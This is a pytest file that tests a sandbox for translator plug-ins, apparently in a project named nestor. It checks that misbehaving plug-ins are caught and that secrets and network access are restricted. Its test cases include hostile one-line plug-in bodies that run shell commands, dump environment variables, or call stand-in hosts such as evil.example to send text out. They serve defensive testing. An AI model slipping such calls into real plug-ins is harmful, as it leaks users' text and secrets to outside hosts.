"""Translators are found by entry point and asked in a process of their own: packages as pip installs them."""

import json
import socket
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest

from nestor.triage.translators import asking, registry
from nestor.triage.translators.child import Watch
from nestor.triage.translators.conformance import complaints
from nestor.triage.translators.contract import CannotTranslate, Described
from tests.translators.installed import Install, entry_point

SPANISH = "¿A qué hora abre la estación mañana? Necesito comprar un billete."
ODD = Described("odd", "Odd one", "")


@pytest.mark.parametrize(
    ("body", "why"),
    [
        ("raise CannotTranslate(Why.LANGUAGES)", "languages"),
        ("raise CannotTranslate(Why.LIMITED)", "limited"),
        ("raise CannotTranslate(Why.SIGN_IN)", "sign_in"),
        ("raise CannotTranslate(Why.SEALED)", "broken"),
        ("raise CannotTranslate('nonsense')", "broken"),
        ("raise RuntimeError(text)", "broken"),
        ("raise SystemExit(0)", "broken"),
        ("raise KeyboardInterrupt", "broken"),
        ("return None", "broken"),
        ("return text.encode()", "broken"),
        ("return ''", "broken"),
        ("return ' \\x00\\x07 '", "broken"),
        ("return 'a' * 10_000_000", "broken"),
        ("import os; os._exit(0)", "broken"),
        ("import os, signal; os.kill(os.getpid(), signal.SIGKILL)", "broken"),
        ("return self.translate(text, source, target)", "broken"),
        ("import os; os.write(2, b'x' * 10_000_000); raise ValueError", "broken"),
        ("import subprocess; return subprocess.check_output(['id'], text=True)", "unsafe"),
        ("import os; os.system('id'); return text", "unsafe"),
        ("import socket; socket.create_connection(('203.0.113.5', 80), 1); return text", "unsafe"),
        ("import socket; socket.getaddrinfo(f'{source}.evil.example', 80); return text", "unsafe"),
        ("import socket; socket.gethostbyname('evil.example'); return text", "unsafe"),
        ("import socket; socket.socket(2, 2).sendto(text.encode(), ('203.0.113.5', 53)); return text", "unsafe"),
        ("import urllib.request; urllib.request.urlopen('http://evil.example/'); return text", "unsafe"),
    ],
)
def test_one_that_fails_gives_a_reason(install: Install, body: str, why: str) -> None:
    install(body)
    with pytest.raises(CannotTranslate) as found:
        asking.translate(ODD, SPANISH, "es", "en")
    assert found.value.why.value == why
    assert "estación" not in str(found.value)


def test_two_packages_with_one_key_are_not_chosen_from(
    wordbook: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    entry_point(tmp_path, "second", "wordbook = second:X")
    monkeypatch.syspath_prepend(str(tmp_path))
    assert registry.known() == ("wordbook",)
    with pytest.raises(CannotTranslate, match="two packages offer it: second:X, wordbook:WORDBOOK"):
        asking.describe("wordbook")


def test_it_is_given_its_own_settings_and_nothing_of_the_desks(
    install: Install, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NESTOR_TRANSLATOR_KEY", "mine")
    monkeypatch.setenv("NESTOR_SMTP", "smtp://secret@example.test")
    install("import json, os; return json.dumps(dict(os.environ))")
    found = json.loads(asking.translate(ODD, "x" * 200, "es", "en"))
    assert found["NESTOR_TRANSLATOR_KEY"] == "mine"
    assert set(found) - {"LC_CTYPE"} == {"NESTOR_TRANSLATOR_KEY", "PATH", "LANG", "HOME"}


@pytest.mark.slow
def test_the_word_book_keeps_to_the_contract(wordbook: None) -> None:
    assert complaints("wordbook", SPANISH, "es", "en") == []


@pytest.mark.slow
def test_complaints_are_made_of_one_that_does_not(install: Install) -> None:
    install("return text if 'b>' not in text else None")
    found = complaints("odd", "hola", "es", "en")
    assert len(found) == 2
    assert "broken" in found[0]
    assert "nobody speaks" in found[1]
    assert "gone" in complaints("nowhere", "hola", "es", "en")[0]


def test_installed_translators_are_known_without_being_loaded(wordbook: None) -> None:
    assert registry.known() == ("wordbook",)
    asking.describe("wordbook")
    assert "wordbook" not in sys.modules
    with pytest.raises(CannotTranslate, match="gone"):
        registry.load("Wordbook")


def test_a_server_on_this_machine_is_this_machine(install: Install) -> None:
    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"from a server here")

        def log_message(self, *_arguments: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answers) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        url = f"http://127.0.0.1:{server.server_address[1]}/"
        install(f"return urllib.request.urlopen({url!r}).read().decode()", before="import urllib.request")
        assert asking.translate(ODD, SPANISH, "es", "en") == "from a server here"
        server.shutdown()


def heard(watch: Watch, event: str, *arguments: object) -> bool:
    """Return whether it is let through."""
    try:
        watch.hear(event, arguments)
    except PermissionError:
        return False
    return True


def test_a_watch_lets_one_host_through(monkeypatch: pytest.MonkeyPatch) -> None:
    def resolve(name: str, *_: object, **__: object) -> list[tuple[object, ...]]:
        assert name == "one.example"
        return [(2, 1, 6, "", ("198.51.100.7", 0)), (10, 1, 6, "", ("2001:db8::7", 0, 0, 0))]

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    outside, inside = Watch("one.example"), Watch("")
    for address in (("198.51.100.7", 443), ("2001:db8::7", 443, 0, 0), ("one.example", 443)):
        assert heard(outside, "socket.connect", None, address)
        assert not heard(inside, "socket.connect", None, address)
    for address in (("198.51.100.8", 443), ("two.example", 443), ("::ffff:198.51.100.8", 443, 0, 0), ("0x7f.1", 1)):
        assert not heard(outside, "socket.connect", None, address)
    here: tuple[object, ...] = (("127.0.0.1", 80), ("::1", 80, 0, 0), ("localhost", 80), "/run/some.socket", None, ())
    assert all(heard(inside, "socket.connect", None, address) for address in here)
    assert heard(outside, "socket.getaddrinfo", "ONE.example", 443, 0, 0, 0)
    assert heard(outside, "socket.getaddrinfo", b"one.example", 443, 0, 0, 0)
    assert heard(inside, "socket.getaddrinfo", None, 443, 0, 0, 0)
    assert not heard(outside, "socket.getaddrinfo", "one.example.evil.example", 443, 0, 0, 0)
    assert not heard(inside, "socket.getnameinfo", ("198.51.100.7", 443))
    assert not heard(inside, "subprocess.Popen", "sh", [], None, None)
    assert heard(inside, "open", "/etc/hosts", "r", 0)


@pytest.mark.parametrize(
    "host",
    [
        "https://one.example",
        "one.example:443",
        "one.example/x",
        "One.example",
        "a" * 254,
        "é.example",
        "-a",
        "a..b",
        " ",
    ],
)
def test_a_host_is_a_name_alone(install: Install, host: str) -> None:
    install("return text", host=host)
    with pytest.raises(CannotTranslate, match="no host's name"):
        asking.describe("odd")
